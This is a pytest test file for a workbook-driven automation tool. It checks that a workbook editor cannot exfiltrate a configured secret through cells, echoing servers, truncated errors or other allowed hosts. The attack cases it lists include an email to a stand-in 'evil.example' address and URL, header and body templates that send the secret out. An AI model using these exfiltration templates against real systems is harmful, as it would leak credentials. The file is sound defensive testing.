"""Whoever may edit the workbook, but not config.toml, tries to read a secret: by every cell, and by a server that echoes."""

import base64
import json
import sqlite3
import zipfile
from urllib.parse import quote

import pytest

from tests.acceptance.conftest import Shop
from tests.servers.http import HttpServer, Reply, Request

#: With signs that JSON, addresses and HTML write in other ways, as passwords have them.
SECRET = 'hk/9+Zq"77&<ümlaut>~Tr0ub4dor'
ENV = {"PAY": SECRET}
CONTRACT = ["Contract", "Enabled", "Trigger", "Tab", "If", "Dedupe key", "Check"]


def _shop(
    shop: Shop, steps: list[tuple[str, str]], *, key: str = "{{ no }}", condition: str = "", hosts: str = "", **tabs: str
) -> Shop:
    own = hosts.partition(",")[0]
    shop.config(f'[http]\nallow = [{hosts}]\n[files]\nallow = ["documents"]\n[secrets.PAY]\nenv = "PAY"\nhosts = [{own}]\n')
    shop.write(
        Contracts=[CONTRACT, ["Steal", "Yes", "New row", "Bills", condition, key, None]],
        Steps=[
            ["Contract", "Step", "Action", "With", "Retry", "On failure", "Check"],
            *(["Steal", f"S{place}", action, settings, "No", "Continue", None] for place, (action, settings) in enumerate(steps)),
        ],
        Bills=[["No", "Note", "State", "Run", "Row ID"], [1, "{{ secrets.PAY }}", None, None, None]],
        **tabs,
    )
    return shop


def _traces(shop: Shop, value: str) -> list[str]:
    """Every place in which the value stands: files, parts of workbooks, and what the ledger holds."""
    needle = value.encode()
    found = []
    for path in (path for path in shop.folder.rglob("*") if path.is_file()):
        parts = {"": path.read_bytes()}
        if path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as book:
                parts = {name: book.read(name) for name in book.namelist()}
        found += [f"{path.name} {name}" for name, content in parts.items() if needle in content]
    for row in sqlite3.connect(shop.folder / "business.ledger").iterdump():
        found += ["ledger"] if value in row else []
    return found


# ------------------------------------------------------------------------------------------------------- typed into a cell


PLACES = [
    ("email.send", "to: ana@shop.example\nsubject: Hi\nbody: {{ secrets.PAY }}"),
    ("email.send", "to: ana@shop.example\nsubject: {{ secrets.PAY }}\nbody: Hi"),
    ("email.send", "to: {{ secrets.PAY }}@evil.example\nsubject: Hi\nbody: Hi"),
    ("email.send", "to: ana@shop.example\ntemplate: Leak"),
    ("file.write", "path: a.txt\nbody: {{ secrets.PAY }}"),
    ("file.write", "path: {{ secrets.PAY }}.txt\nbody: Hi"),
    ("sheet.add", "tab: Bills\nkey: No\nNo: 7\nNote: {{ secrets.PAY }}"),
    ("sheet.set", "Note: {{secrets.PAY}}"),
    ("sheet.find", "key: Note\nNote: {{ secrets.PAY }}"),
    ("notify", "message: {{ secrets.PAY }}"),
    ("task", "title: {{ secrets.PAY }}"),
    ("decide", "table: {{ secrets.PAY }}"),
    ("contract.call", "contract: Steal\nkey: {{ secrets.PAY }}"),
    ("wait", "until: {{ secrets.PAY }}"),
    ("notify", 'message: {{ secrets["PAY"] }}'),
    ("notify", "message: {{ secrets.PAY | upper }}"),
    ("notify", "message: {{ secrets.PAY ~ no }}"),
    ("notify", 'message: {% if secrets.PAY == "a" %}yes{% endif %}'),
    ("notify", "message: {% for x in secrets %}{{ x }}{% endfor %}"),
    ("notify", "message: {{ secrets }}"),
]


def test_a_secret_in_any_setting_but_a_web_requests_is_a_mistake_beside_the_row(shop: Shop) -> None:
    _shop(shop, PLACES, Templates=[["Template", "Subject", "Body"], ["Leak", "Hi", "{{ secrets.PAY }}"]])
    shop.run("run", "--once", env=ENV, code=None)
    assert shop.tab("Runs") == []
    assert [row["With"] for row in shop.tab("Steps") if "secret" not in str(row["Check"]).casefold()] == []
    assert shop.mails() == []
    shop.run("check", code=1)


@pytest.mark.parametrize("cells", [{"key": "{{ secrets.PAY }}"}, {"condition": 'secrets.PAY starts with "h"'}])
def test_a_secret_in_a_key_or_condition_is_a_mistake_beside_the_row(shop: Shop, cells: dict[str, str]) -> None:
    _shop(shop, [("notify", "message: Hi")], **cells)
    shop.run("run", "--once", env=ENV, code=None)
    assert shop.tab("Runs") == []
    assert "secret" in str(shop.tab("Contracts")[0]["Check"])


def test_a_mark_that_comes_out_of_a_cell_is_only_text(shop: Shop, http_server: HttpServer) -> None:
    http_server.on("/", Reply(200))
    _shop(
        shop,
        [
            ("decide", "table: Table"),
            (
                "http.post",
                f"url: {http_server.url}/\nheader.X-Note: {{{{ note }}}}\nbody: {{{{ steps.s0.key }}}} {{{{ settings.key }}}}",
            ),
        ],
        hosts=f'"{http_server.host}"',
        Table=[["No", "Then Key"], [1, "{{ secrets.PAY }}"]],
        Settings=[["Setting", "Value"], ["key", "{{ secrets.PAY }}"]],
    )
    shop.run("run", "--once", env=ENV, code=None)
    (request,) = http_server.requests
    assert request.body == b"{ { secrets.PAY }} { { secrets.PAY }}"
    assert request.headers["x-note"] == "{ { secrets.PAY }}"


# ------------------------------------------------------------------------------------------------------ echoed by a server


def _json_slashes(value: str) -> str:
    return json.dumps(value)[1:-1].replace("/", "\\/")


def _json_escaped(value: str) -> str:
    return "".join(f"\\u{ord(sign):04x}" for sign in value)


ECHOES = {
    "as it is": str,
    "slashes escaped": _json_slashes,
    "every letter escaped": _json_escaped,
    "base64": lambda value: base64.b64encode(f"user:{value}".encode()).decode(),
    "percent": lambda value: quote(value, safe=""),
}


@pytest.mark.parametrize("status", [200, 422])
def test_a_secret_that_its_own_host_echoes_goes_no_further(shop: Shop, http_server: HttpServer, status: int) -> None:
    def echo(request: Request) -> Reply:
        value = request.headers["authorization"].removeprefix("Bearer ").encode("latin-1").decode("latin-1")
        names = {name.replace(" ", "_"): write(value) for name, write in ECHOES.items() if name != "as it is"}
        body = ", ".join(f'"{name}": "{written}"' for name, written in names.items())
        plain = json.dumps(value)
        whole = f'{{"at": {plain}, {plain}: 1, {body}}}'
        return Reply(status, whole.encode(), {"Content-Type": "application/json", "X-Echo": value, "Location": f"/{quote(value)}"})

    http_server.on("/echo", echo)
    answer = ("text", "headers.x_echo", "json.slashes_escaped", "json.every_letter_escaped")
    leak = " ".join(f"{{{{ steps.s0.{name} }}}}" for name in answer)
    _shop(
        shop,
        [
            ("http.post", f"url: {http_server.url}/echo\nheader.Authorization: Bearer {{{{ secrets.PAY }}}}"),
            ("email.send", f"to: ana@shop.example\nsubject: {{{{ steps.s0.json.at }}}}\nbody: {leak}"),
            ("sheet.set", "Note: {{ steps.s0.json.slashes_escaped }}"),
            ("file.write", f"path: leak.txt\nbody: {leak}"),
            ("notify", f"message: {leak}"),
        ],
        hosts=f'"{http_server.host}"',
    )
    printed = shop.run("run", "--once", env=ENV, code=None)
    printed += shop.run("show", "R-0001", "--json") + shop.run("audit", "export") + shop.run("audit", "export", "--json")
    assert http_server.hits("/echo") == 1
    for form in ECHOES.values():
        assert form(SECRET) not in printed
        assert _traces(shop, form(SECRET)) == []
    if status == 200:
        assert "•••PAY•••" in shop.mails()[0].get_content()


@pytest.mark.parametrize("before", [270, 285, 299, 1985])
def test_of_a_secret_at_the_place_where_an_error_is_cut_no_part_is_left(shop: Shop, http_server: HttpServer, before: int) -> None:
    http_server.on("/echo", lambda request: Reply(422, b"x" * before + request.headers["x-key"].encode("latin-1")))
    _shop(
        shop,
        [("http.post", f"url: {http_server.url}/echo\nheader.X-Key: {{{{ secrets.PAY }}}}")],
        hosts=f'"{http_server.host}"',
    )
    printed = shop.run("run", "--once", env=ENV, code=None)
    assert SECRET[:5] not in printed
    assert _traces(shop, SECRET[:5]) == []


# ---------------------------------------------------------------------------------------------------------- sent elsewhere


@pytest.mark.parametrize(
    "settings",
    [
        "url: {other}/?k={{{{ secrets.PAY }}}}",
        "url: {other}/{{{{ secrets.PAY }}}}",
        "url: {other}/\nheader.Authorization: {{{{ secrets.PAY }}}}",
        "url: {other}/\nbody: {{{{ secrets.PAY }}}}",
        'url: {other}/\njson: {{"k": "{{{{ secrets.PAY }}}}"}}',
        "url: {other}/\nform: k: {{{{ secrets.PAY }}}}",
        "url: http://{{{{ secrets.PAY }}}}/",
        "url: http://{{{{ secrets.PAY }}}}@{own}/",
    ],
)
def test_a_secret_goes_to_no_other_host_that_is_allowed(
    shop: Shop, http_server: HttpServer, second_http_server: HttpServer, settings: str
) -> None:
    second_http_server.on("/", Reply(200))
    text = settings.format(other=second_http_server.url, own=http_server.host)
    _shop(shop, [("http.post", text)], hosts=f'"{http_server.host}", "{second_http_server.host}"')
    printed = shop.run("run", "--once", env=ENV, code=None)
    assert second_http_server.connections == 0
    assert http_server.connections == 0
    assert SECRET not in printed
    assert _traces(shop, SECRET) == []
